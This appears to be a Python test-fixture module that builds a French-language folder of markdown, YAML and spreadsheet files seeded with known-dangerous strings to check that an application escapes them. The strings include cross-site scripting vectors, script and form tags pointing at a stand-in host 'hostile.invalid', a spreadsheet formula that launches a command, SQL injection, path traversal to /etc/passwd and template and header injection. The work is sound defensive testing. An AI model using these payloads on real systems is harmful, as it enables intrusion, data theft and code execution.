"""Strings that have broken pages elsewhere, and a folder of documents that holds them everywhere a document can."""

from __future__ import annotations

import re
from pathlib import Path

from openpyxl import Workbook

# Each would set window.ran, show a dialog or leave this machine, were it ever more than text.
STRINGS = (
    "<script>window.ran=1</script>",
    "</script><script>window.ran=2</script>",
    "<ScRiPt >window.ran=3</sCrIpT >",
    "<script src=https://hostile.invalid/a.js></script>",
    "<script type=module>import 'https://hostile.invalid/b.js'</script>",
    "<img src=x onerror=window.ran=4>",
    "<img src=https://hostile.invalid/pixel.png>",
    '"><img src=x onerror=window.ran=5>',
    "'><img src=x onerror=window.ran=6>",
    "`><img src=x onerror=window.ran=7>",
    '" onmouseover="window.ran=8" x="',
    "' onfocus='window.ran=9' autofocus='",
    '" autofocus onfocus=window.ran=10 x="',
    "<svg onload=window.ran=11>",
    "<svg><script>window.ran=12</script></svg>",
    "<svg><animate onbegin=window.ran=13 attributeName=x dur=1s>",
    "<svg><use href=https://hostile.invalid/s.svg#a></use></svg>",
    "<math><mi xlink:href=javascript:window.ran=14>x</mi></math>",
    "<iframe src=javascript:window.ran=15></iframe>",
    "<iframe srcdoc='<script>parent.ran=16</script>'></iframe>",
    "<object data=https://hostile.invalid/o></object>",
    "<embed src=https://hostile.invalid/e>",
    "<link rel=stylesheet href=https://hostile.invalid/c.css>",
    "<style>@import 'https://hostile.invalid/d.css';</style>",
    "<style>body{background:url(https://hostile.invalid/bg)}</style>",
    "<base href=https://hostile.invalid/>",
    "<meta http-equiv=refresh content='0;url=https://hostile.invalid/'>",
    "<form action=https://hostile.invalid/><button>Envoyer</button></form>",
    "</form><form action=https://hostile.invalid/ method=post>",
    "<input autofocus onfocus=window.ran=17>",
    "<button formaction=https://hostile.invalid/ form=ask>Demander</button>",
    "</textarea><script>window.ran=18</script>",
    "</title><script>window.ran=19</script>",
    "</option></select><img src=x onerror=window.ran=20>",
    "<!--<script>window.ran=21</script>-->",
    "--><script>window.ran=22</script><!--",
    "<![CDATA[<script>window.ran=23</script>]]>",
    "<template><script>window.ran=24</script></template>",
    "<details open ontoggle=window.ran=25>",
    "<video poster=https://hostile.invalid/p><source onerror=window.ran=26></video>",
    "<audio src=https://hostile.invalid/s autoplay>",
    "<a href=javascript:window.ran=27>lien</a>",
    "<a href=' javascript:window.ran=28'>lien</a>",
    "<a href=data:text/html,<script>window.ran=29</script>>lien</a>",
    "javascript:window.ran=30",
    "java\tscript:window.ran=31",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "[lien](javascript:window.ran=32)",
    "![image](https://hostile.invalid/md.png)",
    "[lien](https://hostile.invalid/)",
    "<https://hostile.invalid/auto>",
    "//hostile.invalid/proto",
    "\\\\hostile.invalid\\partage",
    "&lt;script&gt;window.ran=33&lt;/script&gt;",
    "&#60;img src=x onerror=window.ran=34&#62;",
    "\\u003cscript\\u003ewindow.ran=35\\u003c/script\\u003e",
    "%3Cscript%3Ewindow.ran=36%3C/script%3E",
    "＜script＞window.ran=37＜/script＞",
    "{{constructor.constructor('window.ran=38')()}}",
    "{% raw %}{{ 7*7 }}{% endraw %}",
    "${window.ran=39}",
    "#{window.ran=40}",
    "<%= window.ran=41 %>",
    "{0} {name} %s %n %x",
    "event: answer\ndata: {}\n\n",
    "data: [DONE]",
    "ligne\r\nSet-Cookie: a=b",
    "=cmd|' /C calc'!A0",
    "Robert'); DROP TABLE avis;--",
    "../../../../etc/passwd",
    "__proto__ constructor prototype toString",
    "null undefined NaN true -1 1e309",
    "Å̶̢̛̟̪͚̤̱͈̄̈́̊͂z̸̧̤̭̋͑ḁ̶̈́",
    "e" + "\u0301" * 60,
    "abc\u202edcba\u202c \u2066isolé\u2069",
    "\u200b\u200d\ufeff\u00ad invisible",
    "🧑‍🤝‍🧑👨‍👩‍👧‍👦🏴󠁧󠁢󠁳󠁣󠁴󠁿 Ω≈ç√∫ 田中さん مرحبا ﷽",
    "A" * 600,
    "]]> ?> */ // <!-- ' \" ` \\ \\0",
)

_NOT_IN_XML = re.compile("[\x00-\x08\x0b-\x1f\x7f]")
_DOCUMENTS = {
    "charte.md": ("other", "Charte <img src=x onerror=window.ran=50>"),
    "ancienne.md": ("other", "Ancienne charte"),
    "matrice.xlsx": ("role_matrix", 'Matrice "><script>window.ran=51</script>'),
    "offres.xlsx": ("service_offers", "Offres </title><svg onload=window.ran=52>"),
    "projets-t1.xlsx": ("project_status", "Projets T1 {{7*7}}"),
    "projets-t2.xlsx": ("project_status", "Projets T2 javascript:window.ran=53"),
    "glossaire.md": ("glossary", "Glossaire ' onfocus=window.ran=54 autofocus"),
}
_MORE = {
    "charte.md": 'owner: "<b>Gestionnaire</b> <script>window.ran=55</script>"\n    supersedes: ancienne.md',
    "projets-t1.xlsx": "date: 2026-03-31",
    "projets-t2.xlsx": "date: 2026-06-30",
}
PLAIN = "Le comité des données approuve la politique de conservation des journaux."
MOVING = "La présidence convoque le comité des données chaque premier lundi du mois."
LOST = "Le secrétariat conserve les comptes rendus pendant sept ans."


def folder(at: Path) -> Path:
    """Every kind of document, the strings in titles, headings, paragraphs, lists, cells, terms."""
    charter(at, version="1")
    terms = "\n\n".join(f"**T{n} {_line(text)}** : {_line(text)}" for n, text in enumerate(STRINGS[::2]))
    (at / "glossaire.md").write_text(f"# Glossaire\n\n{terms}\n", "utf-8")
    (at / "ancienne.md").write_text("# Ancienne charte\n\nLe comité des données n'existe pas encore.\n", "utf-8")
    roles = ["Directrice", "Gestionnaire", *STRINGS[5:9]]
    matrix = [[f"Activité {n} {text}", "A" if n % 3 else "", "R", "C", "I"] for n, text in enumerate(STRINGS) if n % 2]
    _book(at / "matrice.xlsx", ["Activité", *roles], matrix)
    offers = [
        [f"Service {n} {text}", text, text, "Actif" if n % 4 else text] for n, text in enumerate(STRINGS) if n % 2 == 0
    ]
    _book(at / "offres.xlsx", ["Offre", "Description", "Comment en faire la demande", "Statut"], offers)
    for name, done in (("projets-t1.xlsx", 20), ("projets-t2.xlsx", 60)):
        rows = [[f"X-{n}", f"Projet {n} {text}", "Vert", f"{done} %", text] for n, text in enumerate(STRINGS[:30])]
        _book(at / name, ["Code", "Projet", "Santé", "Avancement", "Commentaire"], rows)
    return at


def charter(at: Path, version: str) -> None:
    """The one document that changes: in its second version a sentence has moved and another is gone."""
    kinds = ("## {} {}", "{} {}", "- {} {}")
    text = "\n\n".join(kinds[n % 3].format(n, _line(text)) for n, text in enumerate(STRINGS))
    first = f"{MOVING}\n\n{PLAIN}\n\n{LOST}" if version == "1" else f"{PLAIN}\n\nUne phrase nouvelle.\n\n{MOVING}"
    (at / "charte.md").write_text(f"# Charte\n\n## Comité\n\n{first}\n\n{text}\n", "utf-8")
    told = "".join(
        f'  {name}:\n    kind: {kind}\n    title: {_quoted(title)}\n    version: "{version}"\n'
        + (f"    {_MORE[name]}\n" if name in _MORE else "")
        for name, (kind, title) in _DOCUMENTS.items()
    )
    (at / "corpus.yaml").write_text(f"documents:\n{told}", "utf-8")


def _book(path: Path, header: list[str], rows: list[list[str]]) -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = "Feuille"
    for number, row in enumerate((header, *rows), start=1):
        for column, text in enumerate(row, start=1):
            # A string, even where it begins with « = ».
            sheet.cell(number, column, _NOT_IN_XML.sub("", text)).data_type = "s"
    book.save(path)


def _line(text: str) -> str:
    return " ".join(text.split())


def _quoted(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"
